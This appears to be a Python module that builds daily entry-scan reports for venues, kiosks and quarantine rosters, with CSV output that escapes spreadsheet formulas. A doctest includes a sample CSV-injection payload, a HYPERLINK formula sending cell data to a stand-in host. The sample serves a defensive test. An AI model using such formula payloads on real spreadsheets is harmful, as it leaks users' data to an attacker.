"""The daily report: per venue (with its registered name, type, district and commune)
entries, passes, fails and reviews by reason, guard overrides and entries per hour split
by verdict; totals for the province and per district/commune; the kiosks that have not
uploaded that day or whose clocks are off; when it was made and up to when it counts.
As CSV (one row per venue), XLSX (collector.xlsx) and a readable HTML page
(collector.report_page).

The day is Vietnam local time (UTC+7). `entries` counts scans (guard overrides are not
new people, so they are counted apart): entries = passes + fails + reviews. With a
cut-off only entries scanned before it count (the 16:30 delivery counts up to 16:30).

    >>> rows = [{"venue_code": "V1", "outcome": "pass", "reason": "ok", "hour_local": 8, "n": 3}]
    >>> build(date(2026, 3, 2), rows).venues[0].entries
    3
"""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass, field
from datetime import date, datetime, time, timedelta, timezone
from typing import Any, Iterable, Mapping

__all__ = ["DailyReport", "VenueDay", "Kiosk", "CommuneRoster", "build", "collect", "to_csv",
           "csv_cell", "OUTCOMES", "CLOCK_AHEAD_TOLERANCE", "CLOCK_BEHIND_TOLERANCE", "local_time"]

HOURS = 24
OUTCOMES = ("pass", "fail", "review")
#: An entry scanned after the collector received it: the kiosk's clock runs ahead.
CLOCK_AHEAD_TOLERANCE = timedelta(minutes=2)
#: A kiosk whose freshest entry was this old in every upload of the day: its clock runs
#: behind (or it uploads that late: an online kiosk uploads within about 25 s, its
#: batch_max_age_s plus interval_s); either way someone should look at it.
CLOCK_BEHIND_TOLERANCE = timedelta(minutes=15)
UNREGISTERED = "(chưa đăng ký / not registered)"


@dataclass
class VenueDay:
    venue_code: str
    name: str = ""
    type: str = ""
    province: str = ""
    district: str = ""
    commune: str = ""
    entries: int = 0
    passes: int = 0
    fails: int = 0
    reviews: int = 0
    overrides: int = 0
    #: entries made on the web form (a citizen's own word, no kiosk saw them): issue 23 item 4
    self_declared: int = 0
    fails_by_reason: dict[str, int] = field(default_factory=dict)
    reviews_by_reason: dict[str, int] = field(default_factory=dict)
    per_hour: list[int] = field(default_factory=lambda: [0] * HOURS)
    #: outcome -> entries per hour
    hourly: dict[str, list[int]] = field(default_factory=lambda: {o: [0] * HOURS for o in OUTCOMES})

    def add(self, other: "VenueDay") -> None:
        for k in ("entries", "passes", "fails", "reviews", "overrides", "self_declared"):
            setattr(self, k, getattr(self, k) + getattr(other, k))
        for mine, theirs in ((self.fails_by_reason, other.fails_by_reason),
                             (self.reviews_by_reason, other.reviews_by_reason)):
            for r, n in theirs.items():
                mine[r] = mine.get(r, 0) + n
        for h in range(HOURS):
            self.per_hour[h] += other.per_hour[h]
            for o in OUTCOMES:
                self.hourly[o][h] += other.hourly[o][h]

    @property
    def label(self) -> str:
        return self.name or self.venue_code


@dataclass(frozen=True)
class Kiosk:
    """A device's upload state on the report day (up to the cut-off)."""

    device_id: str
    venue_code: str | None
    uploads: int                      # batches received that day
    last_upload_at: datetime | None   # latest received that day (UTC)
    last_seen_at: datetime | None     # latest upload ever (UTC), for "silent since"
    #: smallest (received - newest scanned) over the day's uploads: ~0 for a kiosk with a
    #: right clock; negative when it runs ahead.
    clock_lag: timedelta | None
    #: the last batch the collector refused that day (UTC) and why; None: none refused
    refused_at: datetime | None = None
    refusal: str = ""

    @property
    def silent(self) -> bool:
        return self.uploads == 0

    @property
    def refused(self) -> bool:
        """Its uploads are being refused: its entries pile up on the kiosk, never here."""
        return self.refused_at is not None and (self.last_upload_at is None or self.refused_at >= self.last_upload_at)

    @property
    def clock_off(self) -> str | None:
        """`ahead`, `behind` or None."""
        if self.clock_lag is None:
            return None
        if self.clock_lag < -CLOCK_AHEAD_TOLERANCE:
            return "ahead"
        if self.clock_lag > CLOCK_BEHIND_TOLERANCE:
            return "behind"
        return None


@dataclass(frozen=True)
class CommuneRoster:
    """People on the quarantine roster of a commune and how they declared that day."""

    province: str
    commune: str
    on_roster: int
    declared: int
    with_symptoms: int

    @property
    def not_declared(self) -> int:
        return self.on_roster - self.declared


@dataclass
class DailyReport:
    day: date
    venues: list[VenueDay]
    generated_at: datetime | None = None
    cutoff: datetime | None = None
    kiosks: list[Kiosk] = field(default_factory=list)
    #: None: no declaration roster on this collector (the form's tables are not there).
    roster: list[CommuneRoster] | None = None

    def fail_reasons(self) -> list[str]:
        return sorted({r for v in self.venues for r in v.fails_by_reason})

    def review_reasons(self) -> list[str]:
        return sorted({r for v in self.venues for r in v.reviews_by_reason})

    def total(self) -> VenueDay:
        """The province: every venue added up."""
        t = VenueDay("", name="Toàn tỉnh / Province")
        for v in self.venues:
            t.add(v)
        return t

    def by_area(self) -> list[VenueDay]:
        """Totals per (district, commune), in that order; venue_code holds 'district / commune'."""
        areas: dict[tuple[str, str], VenueDay] = {}
        for v in self.venues:
            key = (v.district or "—", v.commune or "—")
            a = areas.setdefault(key, VenueDay(f"{key[0]} / {key[1]}", district=key[0], commune=key[1]))
            a.add(v)
        return [areas[k] for k in sorted(areas)]

    def silent_kiosks(self) -> list[Kiosk]:
        return [k for k in self.kiosks if k.silent]

    def clock_off_kiosks(self) -> list[Kiosk]:
        return [k for k in self.kiosks if k.clock_off]


def local_time(ts: datetime) -> datetime:
    from collector.storage import REPORT_TZ

    return (ts if ts.tzinfo else ts.replace(tzinfo=timezone.utc)).astimezone(REPORT_TZ)


def build(day: date, rows: Iterable[Mapping[str, Any]], *, registry: Mapping[str, Mapping[str, str]] | None = None,
          generated_at: datetime | None = None, cutoff: datetime | None = None,
          kiosks: Iterable[Kiosk] = (), roster: list[CommuneRoster] | None = None) -> DailyReport:
    """Fold grouped counts (venue, outcome, reason, hour, n) into per-venue rows, named
    from the venue registry."""
    registry = registry or {}
    venues: dict[str, VenueDay] = {}
    for r in rows:
        code = r["venue_code"]
        v = venues.get(code)
        if v is None:
            reg = registry.get(code) or {}
            v = venues[code] = VenueDay(code, name=reg.get("name", ""), type=reg.get("type", ""),
                                        province=reg.get("province", ""), district=reg.get("district", ""),
                                        commune=reg.get("commune", ""))
        n = int(r["n"])
        if r["reason"] == "override":
            v.overrides += n
            continue
        v.entries += n
        if r.get("self_declared"):
            v.self_declared += n
        outcome = r["outcome"] if r["outcome"] in OUTCOMES else "review"
        if r.get("hour_local") is not None:  # None: counted without hours (collect(hourly=False))
            hour = int(r["hour_local"])
            v.per_hour[hour] += n
            v.hourly[outcome][hour] += n
        if outcome == "pass":
            v.passes += n
        elif outcome == "fail":
            v.fails += n
            v.fails_by_reason[r["reason"]] = v.fails_by_reason.get(r["reason"], 0) + n
        else:
            v.reviews += n
            v.reviews_by_reason[r["reason"]] = v.reviews_by_reason.get(r["reason"], 0) + n
    return DailyReport(day, [venues[k] for k in sorted(venues)], generated_at=generated_at, cutoff=cutoff,
                       kiosks=sorted(kiosks, key=lambda k: k.device_id), roster=roster)


# --- reading the database ----------------------------------------------------------

def _counts(store: Any, day: date, cutoff: datetime | None, *, hourly: bool = True) -> list[dict[str, Any]]:
    """(venue, outcome, reason, hour, self_declared, n) of `day`, scanned before `cutoff`:
    whole hours from the rollup kept at ingest (collector.storage.report_counts); only the
    hour a cut-off falls inside is counted from its entries. Without `hourly` the hours
    are summed in the database and `hour_local` is None."""
    import sqlalchemy as sa

    from collector import partitions
    from collector.storage import SELF_DECLARED, entries, report_counts

    d = report_counts.c
    keys = (d.venue_code, d.outcome, d.reason)
    if hourly:
        q = sa.select(*keys, d.hour_local, d.self_declared, d.n)
    else:
        q = (sa.select(*keys, sa.null().label("hour_local"), d.self_declared, sa.func.sum(d.n).label("n"))
             .group_by(*keys, d.self_declared))
    q = q.where(d.day_local == day.isoformat())
    partial = None
    if cutoff is not None:
        cut = local_time(cutoff)
        if cut.date() <= day:
            hour = cut.hour if cut.date() == day else 0
            q = q.where(d.hour_local < hour)
            inside = timedelta(minutes=cut.minute, seconds=cut.second, microseconds=cut.microsecond)
            if cut.date() == day and inside:
                c = entries.c
                partial = (sa.select(c.venue_code, c.outcome, c.reason, c.hour_local, SELF_DECLARED,
                                     sa.func.count().label("n"))
                           .where(c.day_local == day.isoformat(), partitions.day_bounds_clause(c.scanned_at, day),
                                  c.scanned_at >= _naive(cutoff - inside), c.scanned_at < _naive(cutoff))
                           .group_by(c.venue_code, c.outcome, c.reason, c.hour_local, SELF_DECLARED))
    with store.engine.connect() as conn:
        rows = [dict(r) for r in conn.execute(q).mappings()]
        if partial is not None:
            rows += [dict(r) for r in conn.execute(partial).mappings()]
    return rows


def _naive(ts: datetime) -> datetime:
    return ts.astimezone(timezone.utc).replace(tzinfo=None) if ts.tzinfo else ts


def _aware(ts: datetime | None) -> datetime | None:
    return ts.replace(tzinfo=timezone.utc) if ts is not None and ts.tzinfo is None else ts


def _kiosks(store: Any, day: date, until: datetime) -> list[Kiosk]:
    """Every enrolled, unrevoked device with its uploads received on `day` before `until`."""
    import sqlalchemy as sa

    from collector.partitions import local_day_bounds
    from collector.storage import devices, ingests

    start, end = local_day_bounds(day)
    end = min(end, _naive(until))
    i = ingests.c
    batches = sa.select(i.device_id, i.newest_scanned_at, i.received_at).where(
        i.received_at >= start, i.received_at < end)
    last = sa.select(i.device_id, sa.func.max(i.received_at).label("last")).where(
        i.received_at < end).group_by(i.device_id)
    with store.engine.connect() as conn:
        devs = conn.execute(sa.select(devices.c.device_id, devices.c.venue_code,  # enrolled by then, not revoked
                                      devices.c.refused_at, devices.c.refusal)
                            .where(devices.c.revoked_at.is_(None), devices.c.enrolled_at < end)).all()
        per: dict[str, list[tuple[datetime, datetime]]] = {}
        for r in conn.execute(batches):
            per.setdefault(r.device_id, []).append((r.newest_scanned_at, r.received_at))
        seen = {r.device_id: r.last for r in conn.execute(last)}
    out = []
    for device_id, venue, refused_at, refusal in devs:
        ups = per.get(device_id, [])
        refused_today = refused_at is not None and start <= refused_at < end
        out.append(Kiosk(device_id, venue, uploads=len(ups),
                         last_upload_at=_aware(max((u[1] for u in ups), default=None)),
                         last_seen_at=_aware(seen.get(device_id)),
                         clock_lag=min((u[1] - u[0] for u in ups), default=None),
                         refused_at=_aware(refused_at) if refused_today else None,
                         refusal=(refusal or "") if refused_today else ""))
    return out


def _roster(store: Any, day: date) -> list[CommuneRoster] | None:
    """Per commune, the quarantine roster's declarations on `day` (collector.roster, the
    declaration form's part); None where this collector has no roster module."""
    try:
        from collector import roster
    except ImportError:
        return None
    status = roster.daily_status(store, day)
    return [CommuneRoster(province=g.get("province_name") or g["province"], commune=g.get("commune_name") or g["commune"],
                          on_roster=len(g["declared"]) + len(g["missing"]), declared=len(g["declared"]),
                          with_symptoms=len(g["symptoms"])) for g in status["communes"]]


def collect(store: Any, day: date, *, now: datetime, cutoff: datetime | None = None,
            hourly: bool = True) -> DailyReport:
    """The report for `day` from the database: entries scanned before `cutoff` (if given),
    venue names from the registry, kiosks' upload state up to min(cutoff, now).
    `hourly=False` leaves the per-hour figures out (the CSV has none): a province's day
    then reads one row per venue and reason instead of one per venue, reason and hour."""
    from collector import venues

    until = min(t for t in (cutoff, now) if t is not None)
    return build(day, _counts(store, day, cutoff, hourly=hourly), registry=venues.registry(store), generated_at=now,
                 cutoff=cutoff, kiosks=_kiosks(store, day, until), roster=_roster(store, day))


def cutoff_for(day: date, at: time) -> datetime:
    """`at` o'clock Vietnam time on `day`, as an aware datetime."""
    from collector.storage import REPORT_TZ

    return datetime.combine(day, at, tzinfo=REPORT_TZ)


# --- CSV -----------------------------------------------------------------------------

#: A spreadsheet reads a cell starting with one of these as a formula (or, for a control
#: character, may): such cells get a leading apostrophe (OWASP "CSV injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def csv_cell(value: Any) -> Any:
    """A value safe to open in a spreadsheet; numbers pass as they are.

    >>> csv_cell('=HYPERLINK("http://evil.example/?x="&A1,"click")')[:4]
    "'=HY"
    >>> csv_cell("V1"), csv_cell(-3)
    ('V1', -3)
    """
    if isinstance(value, str) and value and (value.startswith(FORMULA_START) or ord(value[0]) < 0x20
                                             or value[0] == "\x7f"):
        return "'" + value
    return value


def table(report: DailyReport) -> list[list[Any]]:
    """The per-venue table the CSV and the XLSX share: a header row, then one row per
    venue; one `fail_<reason>` / `review_<reason>` column per reason seen that day."""
    fails, reviews = report.fail_reasons(), report.review_reasons()
    rows: list[list[Any]] = [["date", "venue_code", "entries", "passes", "fails", "reviews", "overrides",
                              "venue_name", "venue_type", "province", "district", "commune", "self_declared",
                              *[f"fail_{r}" for r in fails], *[f"review_{r}" for r in reviews]]]
    for v in report.venues:
        rows.append([report.day.isoformat(), v.venue_code, v.entries, v.passes, v.fails, v.reviews, v.overrides,
                     v.name, v.type, v.province, v.district, v.commune, v.self_declared,
                     *[v.fails_by_reason.get(r, 0) for r in fails], *[v.reviews_by_reason.get(r, 0) for r in reviews]])
    return rows


def to_csv(report: DailyReport) -> str:
    """One row per venue (table()). Text cells that a spreadsheet would run as a formula
    are neutralised (csv_cell)."""
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\r\n")
    for row in table(report):
        w.writerow(map(csv_cell, row))
    return out.getvalue()
